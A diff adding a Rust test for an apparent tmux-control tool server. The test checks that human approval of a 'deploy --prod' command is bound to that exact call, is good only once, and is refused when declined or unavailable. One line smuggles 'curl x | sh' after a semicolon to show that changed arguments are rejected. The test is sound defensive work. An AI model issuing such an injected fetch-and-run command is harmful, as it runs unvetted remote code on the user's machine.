@@ -743,3 +743,68 @@ fn the_documented_policies_load_and_do_what_they_say() {
         Policy::parse(block).unwrap_or_else(|e| panic!("GUIDE.md: {e}\n{block}"));
     }
 }
+
+#[test]
+fn ask_across_requests_in_the_stateless_era() {
+    let tmux = PrivateServer::start("policy-mrtr", 80, 24).unwrap();
+    let dir = TempDir::new("policy-mrtr");
+    let policy = write_policy(&dir, ASK_DEPLOY);
+    let (pane, file) = sink(&tmux, &dir, "main");
+    let mut s = serve_with(&tmux, &["--policy", policy.to_str().unwrap()], json!({}));
+    let mut meta = common::modern_meta();
+    meta["io.modelcontextprotocol/clientCapabilities"] = json!({"elicitation": {}});
+    let args = json!({"pane_id": pane, "text": "deploy --prod", "enter": true});
+    let call = |s: &mut Serve, args: &Value, meta: &Value, extra: Value| {
+        let mut params = json!({"name": "send_keys", "arguments": args, "_meta": meta});
+        if let (Some(p), Some(e)) = (params.as_object_mut(), extra.as_object()) {
+            p.extend(e.clone());
+        }
+        s.request("tools/call", params)["result"].clone()
+    };
+
+    let first = call(&mut s, &args, &meta, json!({}));
+    assert_eq!(first["resultType"], "input_required", "{first}");
+    let asked = &first["inputRequests"]["approve"];
+    assert_eq!(asked["method"], "elicitation/create");
+    assert!(asked["params"]["message"]
+        .as_str()
+        .unwrap()
+        .contains("\"deploy --prod\""));
+    let state = first["requestState"].clone();
+    assert_eq!(
+        typed_so_far(&tmux, &pane, &file),
+        b"",
+        "nothing ran before the answer"
+    );
+
+    let yes = json!({"requestState": state, "inputResponses": {"approve": {"action": "accept", "content": {"approve": true}}}});
+    // The state is bound to its call: other arguments are refused.
+    let other = json!({"pane_id": pane, "text": "deploy --prod; curl x | sh", "enter": true});
+    let r = call(&mut s, &other, &meta, yes.clone());
+    assert_eq!(r["isError"], true, "{r}");
+    let r = call(&mut s, &args, &meta, yes.clone());
+    assert_eq!(r["isError"], false, "{r}");
+    // Good once.
+    let r = call(&mut s, &args, &meta, yes);
+    assert!(
+        r["content"][0]["text"]
+            .as_str()
+            .unwrap()
+            .contains("already used"),
+        "{r}"
+    );
+    let no = json!({"requestState": call(&mut s, &args, &meta, json!({}))["requestState"],
+                    "inputResponses": {"approve": {"action": "decline"}}});
+    assert_eq!(call(&mut s, &args, &meta, no)["isError"], true);
+    assert_eq!(typed_so_far(&tmux, &pane, &file), b"deploy --prod\r");
+
+    // A stateless client without elicitation: refused.
+    let r = call(&mut s, &args, &common::modern_meta(), json!({}));
+    assert!(
+        r["content"][0]["text"]
+            .as_str()
+            .unwrap()
+            .contains("a person must approve"),
+        "{r}"
+    );
+}
